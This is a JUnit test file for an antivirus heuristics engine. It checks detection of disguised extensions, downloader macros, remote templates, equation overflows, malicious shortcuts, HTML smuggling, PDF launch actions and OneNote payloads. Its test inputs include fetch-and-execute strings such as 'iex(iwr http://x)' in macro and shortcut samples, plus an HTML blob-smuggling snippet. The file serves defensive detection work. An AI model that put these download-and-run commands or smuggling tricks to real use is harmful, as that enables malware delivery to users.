package jp.genkan.av.heuristic;

import static org.assertj.core.api.Assertions.assertThat;

import java.lang.foreign.Arena;
import java.lang.foreign.MemorySegment;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import jp.genkan.av.content.Content;
import jp.genkan.av.scan.Detection;
import jp.genkan.av.scan.FileFacts;
import jp.genkan.protocols.file.MagicType;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class HeuristicsTest {
    private static final String PROGRAM = MagicType.PE.mediaType();

    private static List<Detection> look(
            String octets, String name, @Nullable String type, HeuristicPolicy policy, String... formats) {
        List<Detection> found = new ArrayList<>();
        FileFacts facts = new FileFacts(
                name, type, List.of(formats), List.of(formats), List.of(), System.nanoTime() + 10_000_000_000L);
        try (Arena arena = Arena.ofConfined()) {
            byte[] copy = octets.getBytes(StandardCharsets.ISO_8859_1);
            MemorySegment memory = arena.allocate(Math.max(1, copy.length)).asSlice(0, copy.length);
            memory.copyFrom(MemorySegment.ofArray(copy));
            new Heuristics(policy).matcher().match(new Content(memory), facts, found::add);
        }
        return found;
    }

    private static List<String> names(String octets, String name, @Nullable String type, String... formats) {
        return look(octets, name, type, HeuristicPolicy.defaults(), formats).stream()
                .map(detection -> detection.signature() + " " + detection.kind())
                .toList();
    }

    @ParameterizedTest
    @ValueSource(strings = {"invoice.pdf.exe", "a/b/請求書.docx.scr", "x.jpg .vbs", "photo.jpg.SCR"})
    void tellsDoubleExtensions(String name) {
        assertThat(names("MZ", name, PROGRAM)).containsExactly("Heuristic.DoubleExtension HEURISTIC");
    }

    @ParameterizedTest
    @ValueSource(strings = {"invoice\u202efdp.exe", "invoice.pdf                      .exe", "写真　　　　　　　　　　.scr"})
    void tellsHiddenExtensions(String name) {
        assertThat(names("MZ", name, PROGRAM)).contains("Heuristic.HiddenExtension HEURISTIC");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "setup.exe",
                "jquery.min.js",
                "report.2026.pdf",
                "data.csv.js",
                "archive.tar.gz",
                "v1.2.exe",
                "a.pdf.lnk"
            })
    void leavesOrdinaryNamesAlone(String name) {
        assertThat(names("x", name, null)).isEmpty();
        assertThat(names("x", name, null, "zip")).isEmpty();
    }

    @Test
    void notesProgramsInMails() {
        assertThat(names("MZ", "setup.exe", PROGRAM, "mail", "zip"))
                .containsExactly("Heuristic.ProgramInMailedArchive NOTE");
        assertThat(names("MZ", "setup.exe", PROGRAM, "mail")).containsExactly("Heuristic.DangerousAttachment NOTE");
        assertThat(names("MZ", "setup.exe", PROGRAM, "zip")).isEmpty();
    }

    @Test
    void tellsMacrosThatDownload() {
        String macro =
                "Sub AutoOpen()\nSet x = CreateObject(\"MSXML2.XMLHTTP\")\nx.Open \"GET\", u\nShell(\"a\")\nEnd Sub";
        assertThat(names(macro, "Module1.bas", null, "ole2")).containsExactly("Heuristic.MacroDownloads HEURISTIC");
    }

    @Test
    void tellsMacrosWhoseWordsAreInPieces() {
        String macro = "Sub Workbook_Open()\nShell (\"power\" & \"shell -c iwr ht\" & \"tp://x\")\nEnd Sub";
        assertThat(names(macro, "ThisWorkbook.cls", null, "zip", "ole2"))
                .containsExactly("Heuristic.MacroDownloads HEURISTIC");
    }

    @Test
    void leavesOrdinaryMacrosAlone() {
        String macro = "Private Sub Workbook_Open()\n' Shell(\"no\") urldownloadtofile\nSheets(1).Activate\nEnd Sub";
        assertThat(names(macro, "ThisWorkbook.cls", null, "ole2")).isEmpty();
        assertThat(names("Sub Export()\nShell \"notepad\"\nEnd Sub", "M.bas", null, "ole2"))
                .isEmpty();
    }

    @Test
    void tellsRemoteTemplates() {
        String head =
                "<Relationships><Relationship Id=\"r\" Type=\"http://x/relationships/attachedTemplate\" Target=\"";
        String tail = "\" TargetMode=\"External\"/></Relationships>";
        assertThat(names(head + "https://x.example/t.dotm" + tail, "word/_rels/settings.xml.rels", null, "zip"))
                .containsExactly("Heuristic.RemoteTemplate HEURISTIC");
        assertThat(names(head + "file:///\\\\server\\t.dotx" + tail, "word/_rels/settings.xml.rels", null, "zip"))
                .containsExactly("Heuristic.FileServerTemplate NOTE");
        assertThat(names("http://x.example/t.dotm", "template", null, "rtf"))
                .containsExactly("Heuristic.RemoteTemplate HEURISTIC");
    }

    @Test
    void leavesLinksOfDocumentsAlone() {
        String text =
                "<Relationship Type=\"http://x/relationships/hyperlink\" Target=\"http://x\" TargetMode=\"External\"/>";
        assertThat(names(text, "word/_rels/document.xml.rels", null, "zip")).isEmpty();
    }

    @Test
    void tellsEquationsThatOverflow() {
        String equation = "\u001c\0" + "\0".repeat(26) + "\3\1\1\3\n\n\1\b\1\1" + "A".repeat(80);
        assertThat(names(equation, "Equation Native", null, "ole2"))
                .contains("Heuristic.EquationOverflow HEURISTIC", "Heuristic.EquationObject NOTE");
    }

    @Test
    void tellsShortcutsThatFetch() {
        assertThat(names(
                        "C:\\Windows\\system32\\cmd.exe\n/c p^owershell -w hidden iex(iwr http://x)\n",
                        "command line",
                        null,
                        "lnk"))
                .containsExactly("Heuristic.ShortcutStartsInterpreter HEURISTIC");
        assertThat(names("%comspec%\n/k \"C:\\Program Files\\VsDevCmd.bat\"\n", "command line", null, "lnk"))
                .isEmpty();
    }

    @Test
    void tellsShortcutsInMailedDiscImages() {
        assertThat(names("L", "a.lnk", MagicType.LNK.mediaType(), "mail", "iso"))
                .contains("Heuristic.MailedShortcut HEURISTIC");
    }

    @Test
    void tellsSmuggledFiles() {
        String page = "<html><script>var b=new Blob([Uint8Array.from(atob('" + "QUJD".repeat(1000)
                + "'))]);a.href=URL.createObjectURL(b);a.download='x.zip';a.click()</script>";
        assertThat(names(page, "a.html", "text/html", "mail")).contains("Heuristic.HtmlSmuggling HEURISTIC");
        assertThat(names(page, "a.html", "text/html")).containsExactly("Heuristic.HtmlStoresFile NOTE");
        assertThat(names("<html><script>var x = 1</script>", "a.html", "text/html", "mail"))
                .isEmpty();
    }

    @Test
    void tellsPdfActions() {
        assertThat(names("OpenAction Launch cmd.exe /c calc\n", "actions", null, "pdf"))
                .containsExactly("Heuristic.PdfLaunches HEURISTIC");
        assertThat(names("OpenAction JavaScript\n", "actions", null, "pdf"))
                .containsExactly("Heuristic.PdfRunsScript NOTE");
    }

    @Test
    void tellsProgramsInOneNote() {
        assertThat(names("@echo off\nstart x", "file1", "text/plain", "onenote"))
                .containsExactly("Heuristic.OneNoteProgram HEURISTIC");
        assertThat(names(
                        new String(HexFormat.of().parseHex("89504e47"), StandardCharsets.ISO_8859_1),
                        "file1",
                        "image/png",
                        "onenote"))
                .isEmpty();
    }

    @Test
    void thePolicyDecides() {
        HeuristicPolicy off = new HeuristicPolicy(Map.of(Heuristic.DOUBLE_EXTENSION, Heuristic.Grade.OFF));
        assertThat(look("MZ", "a.pdf.exe", PROGRAM, off)).isEmpty();
        HeuristicPolicy note = new HeuristicPolicy(Map.of(Heuristic.DOUBLE_EXTENSION, Heuristic.Grade.NOTE));
        assertThat(look("MZ", "a.pdf.exe", PROGRAM, note))
                .extracting(Detection::kind)
                .containsExactly(Detection.Kind.NOTE);
        assertThat(new Heuristics(off).count()).isEqualTo(Heuristic.values().length - 1);
    }
}
